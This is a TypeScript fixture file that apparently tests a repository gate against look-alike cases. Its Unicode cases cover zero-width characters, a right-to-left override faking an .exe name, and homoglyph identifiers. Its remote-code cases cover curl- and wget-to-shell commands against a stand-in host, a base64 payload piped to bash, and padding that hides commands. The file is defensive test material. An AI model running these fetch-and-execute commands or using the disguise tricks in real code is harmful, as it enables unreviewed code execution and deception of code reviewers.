// The gate's rules as data: what looks bad and is not, each beside what is.
import type { Tree } from '../support/gate-repository.ts';
import type { Case, Step } from './cases.ts';

const added = (path: string, text: Tree[string]): Step => ({ after: { [path]: text } });
const pair = (
  rule: Case['rule'],
  [name, path]: readonly [name: string, path: string],
  [caught, innocent]: readonly [caught: string, innocent: string],
  more: Partial<Case> = {},
): Case => ({
  rule,
  name,
  file: path,
  caught: added(path, `first\n${caught}\n`),
  innocent: added(path, `first\n${innocent}\n`),
  ...more,
});
const URL = 'https://a.example/x';

export const HARMLESS_CASES: readonly Case[] = [
  pair(
    'hidden_text',
    ['spaces of Khmer', 'src/words.js'],
    [
      "const isAdmin = 'a\u200bb';",
      "const hello = '\u179f\u17bd\u179f\u17d2\u178f\u17b8\u200b\u1796\u17b7\u1797\u1796\u179b\u17c4\u1780';",
    ],
  ),
  pair(
    'hidden_text',
    ['joiners of Persian at the end of a word', 'src/words.js'],
    ["const a = 'user\u200c';", "const b = '\u0645\u06cc\u200c \u0648 3\u200c\u062a\u0627';"],
  ),
  pair(
    'hidden_text',
    ['emoji of many parts', 'src/words.js'],
    [
      "const a = 'x\u200d\u200dy';",
      "const b = '\u2764\ufe0f\u200d\u{1f525} 1\ufe0f\u20e3 \u{1f9d1}\u{1f3fd}\u200d\u{1f4bb} \u{1f441}\ufe0f\u200d\u{1f5e8}\ufe0f';",
    ],
  ),
  pair(
    'hidden_text',
    ['soft hyphens in prose', 'docs/a.md'],
    [
      'Donau\u00ad\u00ad\u00ad\u200b\u200b\u200bdampf',
      'Donau\u00addampf\u00adschiff and super\u200bcali, Auf\u200clage',
    ],
  ),
  pair(
    'hidden_text',
    ['soft hyphens in a translation', 'locales/de.json'],
    ['{"a": "x\u200b\u200b\u200b\u200by"}', '{"a": "Donau\u00addampf", "b": "\u200e%s"}'],
  ),
  pair(
    'hidden_text',
    ['soft hyphens in code', 'src/a.js'],
    ["const a = 'Donau\u00addampf';", "const a = 'Donau&shy;dampf';"],
    { severity: 'warn' },
  ),
  pair(
    'hidden_text',
    ['isolates in a translation', 'i18n/he.ftl'],
    ['a = \u05d0 \u202egnp.exe', 'a = \u05d0 \u2068{ $name }\u2069'],
  ),
  pair(
    'hidden_text',
    ['names with selectors', 'src/names.js'],
    ['const a = "x\u{e0100}\u{e0101}\u{e0102}";', 'const a = "\u845b\u{e0100}\u98fe";'],
  ),
  pair(
    'hidden_text',
    ['a word in two scripts that shows it', 'src/words.js'],
    ['const \u0441ount = 1;', "const a = 'IP\u0430\u0434\u0440\u0435\u0441 и SQLзапрос';"],
  ),
  pair(
    'remote_code',
    ['what only reads', 'run.sh'],
    [
      `curl -s ${URL} | python3 -`,
      `curl -s ${URL} | python -m json.tool\ncurl ${URL} | node -e 'x()'\ncurl ${URL} | perl -pe s/a/b/\ncurl ${URL} | bash ./sort.sh`,
    ],
  ),
  pair(
    'remote_code',
    ['a type of names', 'src/a.ts'],
    [
      `run("curl ${URL} | sh");`,
      'type A = "fetch" | node;\ntype B = curl | wget | node;\nconst x = fetch || sh;',
    ],
  ),
  pair(
    'remote_code',
    ['a second try', 'run.sh'],
    [`curl -f ${URL} | sudo -E bash -`, `curl -f ${URL} || bash ./offline.sh`],
  ),
  pair(
    'remote_code',
    ['a comment', 'run.sh'],
    [`true # so\nwget -qO- ${URL} | sudo sh`, `# never: curl ${URL} | sh`],
  ),
  pair(
    'remote_code',
    ['words for people', 'setup.sh'],
    [`echo "$(curl ${URL})" | bash`, `echo "Run: curl -fsSL ${URL} | sh"`],
    {
      innocent: added('setup.sh', `echo "Run: curl -fsSL ${URL} | sh" >&2\n`),
      caught: added('setup.sh', `echo go; curl ${URL} | bash -s -- -y\n`),
    },
  ),
  pair(
    'remote_code',
    ['a download that is checked', 'Dockerfile'],
    [
      `RUN curl -o t ${URL} && chmod +x t && ./t`,
      `RUN curl -o t ${URL} \\\n && echo "abc t" | sha256sum -c \\\n && chmod +x t`,
    ],
  ),
  pair(
    'remote_code',
    ['a download that a later line runs', 'run.sh'],
    [`wget ${URL}/install.sh\nbash install.sh`, `wget ${URL}/install.sh\nsha256sum -c sums\nbash install.sh`],
    { severity: 'warn' },
  ),
  pair(
    'remote_code',
    ['code far behind in a line', 'src/a.sh'],
    [`${'true && '.repeat(900)}curl ${URL} | sh`, `${'true && '.repeat(900)}curl ${URL} | jq .`],
  ),
  pair(
    'remote_code',
    ['packed code in a shell', 'src/b.sh'],
    ['echo aGVsbG8= | base64 -d | bash', 'echo aGVsbG8= | base64 -d | jq .'],
  ),
];
